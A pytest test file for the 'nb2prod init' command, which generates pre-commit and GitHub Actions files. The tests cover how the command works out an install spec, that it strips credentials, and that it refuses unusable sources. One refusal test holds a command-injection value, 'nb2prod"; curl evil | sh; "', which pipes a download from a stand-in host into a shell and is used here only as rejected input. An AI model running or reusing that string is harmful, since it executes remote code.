"""`nb2prod init` installs nb2prod in CI and the hooks from where the running one came from
(PEP 610 ``direct_url.json``): a package index, a VCS URL, a git work tree's remote at its
commit, an archive URL; ``--install-spec`` for anything else; and refuses (exit 2, one line,
nothing written) when nothing tells where CI could get it."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from packaging.requirements import Requirement
from typer.testing import CliRunner

import nb2prod
from nb2prod import init
from nb2prod.cli import app

SHA = "0123456789abcdef0123456789abcdef01234567"
ORIGIN = "https://example.com/acme/nb2prod.git"
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


def run(*args: str):
    return CliRunner().invoke(app, ["init", *args])


def installed_as(monkeypatch: pytest.MonkeyPatch, direct_url: dict | str | None) -> None:
    """nb2prod as if installed with this ``direct_url.json`` (None: from a package index)."""
    text = direct_url if isinstance(direct_url, str | None) else json.dumps(direct_url)
    monkeypatch.setattr(init, "installed", lambda: ("0.2.0", text))


def written_spec(folder: Path) -> str:
    """The one spec both generated files install, read back through a YAML parser."""
    config = yaml.safe_load((folder / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    (repo,) = config["repos"]
    assert repo["repo"] == "local"
    specs = {spec for hook in repo["hooks"] for spec in hook["additional_dependencies"]}
    assert [h["id"] for h in repo["hooks"]] == ["nb2prod-lint", "nb2prod-fix"]
    job = yaml.safe_load((folder / ".github/workflows/nb2prod.yml").read_text(encoding="utf-8"))
    runs = [s["run"] for s in job["jobs"]["nb2prod"]["steps"] if "run" in s]
    (spec,) = specs
    assert runs[0] == f'pip install "{spec}"'
    assert Requirement(spec).name == "nb2prod" or spec.startswith("https://")
    return spec


def git(folder: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_CONFIG_GLOBAL": os.devnull,
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.com",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.com",
    }
    out = subprocess.run(
        ["git", "-C", str(folder), *args], capture_output=True, text=True, env=env, check=True
    )
    return out.stdout.strip()


def work_tree(root: Path, remote: str | None = ORIGIN) -> str:
    """A git work tree with one commit (and ``remote`` as origin); returns the commit."""
    root.mkdir(parents=True, exist_ok=True)
    git(root, "init", "-q", "-b", "main")
    (root / "pyproject.toml").write_text('[project]\nname = "nb2prod"\n', encoding="utf-8")
    git(root, "add", "pyproject.toml")
    git(root, "-c", "commit.gpgsign=false", "commit", "-q", "-m", "one")
    if remote:
        git(root, "remote", "add", "origin", remote)
    return git(root, "rev-parse", "HEAD")


def local_install(folder: Path) -> dict:
    return {"url": folder.as_uri(), "dir_info": {"editable": True}}


# -- where nb2prod came from ----------------------------------------------------------------
def test_installed_reads_the_running_distribution() -> None:
    version, direct_url = init.installed() or ("", None)
    assert version == nb2prod.__version__
    assert direct_url is None or "url" in json.loads(direct_url)


def test_from_a_package_index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    installed_as(monkeypatch, None)
    result = run(str(tmp_path))
    assert result.exit_code == 0, result.output
    assert written_spec(tmp_path) == "nb2prod==0.2.0"
    assert "PIP_INDEX_URL" in result.stdout and "installs: nb2prod==0.2.0" in result.stdout


@pytest.mark.parametrize(
    ("direct_url", "spec"),
    [
        (
            {"url": "https://github.com/acme/nb2prod.git", "vcs_info": {"vcs": "git",
             "commit_id": SHA, "requested_revision": "main"}},
            f"nb2prod @ git+https://github.com/acme/nb2prod.git@{SHA}",
        ),
        (
            {"url": "ssh://git@github.com/acme/tools.git", "subdirectory": "nb2prod",
             "vcs_info": {"vcs": "git", "commit_id": SHA}},
            f"nb2prod @ git+ssh://git@github.com/acme/tools.git@{SHA}#subdirectory=nb2prod",
        ),
        (
            {"url": "https://files.example.com/nb2prod-0.2.0-py3-none-any.whl",
             "archive_info": {"hashes": {"sha256": "ab" * 32}}},
            "nb2prod @ https://files.example.com/nb2prod-0.2.0-py3-none-any.whl",
        ),
    ],
)  # fmt: skip
def test_from_a_url(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, direct_url: dict, spec: str
) -> None:
    installed_as(monkeypatch, direct_url)
    result = run(str(tmp_path))
    assert result.exit_code == 0, result.output
    assert written_spec(tmp_path) == spec


def test_credentials_never_reach_the_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    token = "ghp_" + "x1" * 18
    url = f"https://{token}@github.com/acme/nb2prod.git"
    installed_as(monkeypatch, {"url": url, "vcs_info": {"vcs": "git", "commit_id": SHA}})
    result = run(str(tmp_path))
    assert result.exit_code == 0, result.output
    assert written_spec(tmp_path) == f"nb2prod @ git+https://github.com/acme/nb2prod.git@{SHA}"
    assert "credentials" in result.stdout and token not in result.output
    assert not any(token in p.read_text() for p in tmp_path.rglob("*") if p.is_file())


@needs_git
def test_from_a_local_work_tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    checkout = tmp_path / "nb2prod-src"
    commit = work_tree(checkout)
    installed_as(monkeypatch, local_install(checkout))
    target = tmp_path / "project"
    target.mkdir()
    result = run(str(target))
    assert result.exit_code == 0, result.output
    assert written_spec(target) == f"nb2prod @ git+{ORIGIN}@{commit}"
    (note,) = [ln for ln in result.stdout.splitlines() if ln.startswith("note:")]
    assert "must be pushed" in note and "not on origin" in note and commit[:12] in note

    # pushed (as far as the remote-tracking branches know), with an uncommitted change
    git(checkout, "update-ref", "refs/remotes/origin/main", commit)
    (checkout / "pyproject.toml").write_text("changed\n", encoding="utf-8")
    again = run("--force", str(target))
    assert again.exit_code == 0, again.output
    notes = [ln for ln in again.stdout.splitlines() if ln.startswith("note:")]
    assert "it is on origin/main" in notes[0] and "not on origin" not in notes[0]
    assert len(notes) == 2 and "uncommitted changes" in notes[1]


@needs_git
def test_a_package_in_a_subfolder_over_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    commit = work_tree(tmp_path / "mono", remote="git@github.com:acme/mono.git")
    package = tmp_path / "mono" / "tools" / "nb2prod"
    package.mkdir(parents=True)
    installed_as(monkeypatch, local_install(package))
    target = tmp_path / "project"
    target.mkdir()
    result = run(str(target))
    assert result.exit_code == 0, result.output
    spec = written_spec(target)
    assert (
        spec
        == f"nb2prod @ git+ssh://git@github.com/acme/mono.git@{commit}#subdirectory=tools/nb2prod"
    )
    assert "over ssh" in result.stdout


@needs_git
def test_running_from_a_source_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No installed distribution: the work tree that holds the running package."""
    commit = work_tree(tmp_path / "src")
    monkeypatch.setattr(init, "installed", lambda: None)
    monkeypatch.setattr(init, "__file__", str(tmp_path / "src" / "nb2prod" / "init.py"))
    target = tmp_path / "project"
    target.mkdir()
    assert run(str(target)).exit_code == 0
    assert written_spec(target) == f"nb2prod @ git+{ORIGIN}@{commit}"


# -- no spec that cannot work --------------------------------------------------------------
def refusals(tmp_path: Path) -> dict[str, tuple[dict | str, str]]:
    plain = tmp_path / "plain"
    plain.mkdir()
    wheel = tmp_path / "nb2prod-0.2.0-py3-none-any.whl"
    return {
        "plain-folder": (local_install(plain), "not a git work tree"),
        "gone": (local_install(tmp_path / "gone"), "not there any more"),
        "archive-file": ({"url": wheel.as_uri(), "archive_info": {}}, "archive file"),
        "vcs-local-hg": (
            {"url": plain.as_uri(), "vcs_info": {"vcs": "hg", "commit_id": "1"}},
            "hg repository",
        ),
        "bad-json": ("{not json", "cannot be read"),
    }


@pytest.mark.parametrize(
    "case", ["plain-folder", "gone", "archive-file", "vcs-local-hg", "bad-json", "no-remote",
             "local-remote"],
)  # fmt: skip
def test_refuses_a_source_ci_cannot_reach(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    if case in ("no-remote", "local-remote"):
        if shutil.which("git") is None:
            pytest.skip("git is not installed")
        checkout = tmp_path / "checkout"
        work_tree(checkout, remote=None if case == "no-remote" else str(tmp_path / "bare.git"))
        direct_url, why = (
            local_install(checkout),
            ("without a remote" if case == "no-remote" else "is a local path"),
        )
    else:
        direct_url, why = refusals(tmp_path)[case]
    installed_as(monkeypatch, direct_url)
    target = tmp_path / "project"
    target.mkdir()
    (target / "pyproject.toml").write_text("[project]\n", encoding="utf-8")
    result = run(str(target))
    assert result.exit_code == 2 and result.stdout == ""
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert why in result.stderr
    assert "--install-spec" in result.stderr and "--repo" in result.stderr
    assert sorted(p.name for p in target.rglob("*")) == ["pyproject.toml"]
    assert (target / "pyproject.toml").read_text(encoding="utf-8") == "[project]\n"


# -- --install-spec and --repo ---------------------------------------------------------------
def test_install_spec_is_written_as_given(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def never() -> None:
        raise AssertionError("--install-spec must not look at the installation")

    monkeypatch.setattr(init, "installed", never)
    result = run("--install-spec", "acme-nb2prod[verify]>=0.2,<0.3", str(tmp_path))
    assert result.exit_code == 0, result.output
    config = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text())
    for hook in config["repos"][0]["hooks"]:
        assert hook["additional_dependencies"] == ["acme-nb2prod[verify]>=0.2,<0.3"]
    job = (tmp_path / ".github/workflows/nb2prod.yml").read_text()
    assert 'pip install "acme-nb2prod[verify]>=0.2,<0.3"' in job


@pytest.mark.parametrize(
    "args",
    [
        ["--install-spec", 'nb2prod"; curl evil | sh; "'],
        ["--install-spec", "--index-url https://x nb2prod"],
        ["--install-spec", "nb2prod #comment"],
        ["--install-spec", ""],
        ["--install-spec", "nb2prod", "--repo", "https://github.com/acme/nb2prod"],
    ],
)
def test_a_spec_that_cannot_fit_is_refused(tmp_path: Path, args: list[str]) -> None:
    result = run(*args, str(tmp_path))
    assert result.exit_code == 2 and result.stdout == ""
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert list(tmp_path.iterdir()) == []


def test_repo_uses_the_hooks_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(init, "installed", lambda: None)  # not consulted with --repo
    result = run("--repo", "https://github.com/acme/nb2prod", str(tmp_path))
    assert result.exit_code == 0, result.output
    config = yaml.safe_load((tmp_path / ".pre-commit-config.yaml").read_text())
    assert config["repos"][0]["repo"] == "https://github.com/acme/nb2prod"
    assert config["repos"][0]["rev"] == init.REV
    job = yaml.safe_load((tmp_path / ".github/workflows/nb2prod.yml").read_text())
    runs = [s["run"] for s in job["jobs"]["nb2prod"]["steps"] if "run" in s]
    assert runs[0] == f'pip install "nb2prod @ git+https://github.com/acme/nb2prod@{init.REV}"'
